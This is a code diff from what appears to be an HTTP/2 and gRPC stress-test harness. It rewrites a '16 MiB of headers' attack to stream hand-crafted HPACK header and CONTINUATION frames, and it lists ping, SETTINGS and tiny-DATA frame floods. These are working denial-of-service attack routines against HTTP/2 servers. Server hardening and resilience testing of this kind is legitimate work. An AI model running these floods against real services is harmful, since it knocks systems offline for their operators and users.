@@ -2,6 +2,7 @@ package main
 
 import (
 	"bufio"
+	"bytes"
 	"context"
 	"crypto/rand"
 	"encoding/hex"
@@ -10,6 +11,7 @@ import (
 	"io"
 	"net"
 	"os"
+	"slices"
 	"strings"
 	"sync"
 	"time"
@@ -65,13 +67,17 @@ func attackList() []attack {
 			}
 			return fr.WriteContinuation(1, false, []byte{0x00, 1, 'x', 1, 'y'})
 		})},
-		{"16 MiB of headers", func(ctx context.Context, s target) {
-			crowdOf(2, func() {
-				for ctx.Err() == nil {
-					bare(s.grpc, []string{"x", strings.Repeat("v", 16<<20)}, one)
-				}
-			})
-		}},
+		{"16 MiB of headers", frames(2, func(fr *http2.Framer, i uint32) error {
+			const each, all = 16 << 10, 16 << 20
+			switch n := int(i) * each; {
+			case i == 0: // then a header named x, whose value is as long as 4 bytes say by 7 bits each
+				return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: append(slices.Clone(head), 0, 1, 'x', 0x7f, 0x81, 0xff, 0xff, 0x07)})
+			case n > all:
+				return io.EOF
+			default:
+				return fr.WriteContinuation(1, n == all, bytes.Repeat([]byte{'v'}, each))
+			}
+		})},
 		{"ping flood", frames(2, func(fr *http2.Framer, i uint32) error { return fr.WritePing(false, [8]byte{byte(i)}) })},
 		{"SETTINGS flood", frames(2, func(fr *http2.Framer, _ uint32) error { return fr.WriteSettings() })},
 		{"DATA frames of a byte", frames(4, func(fr *http2.Framer, i uint32) error {
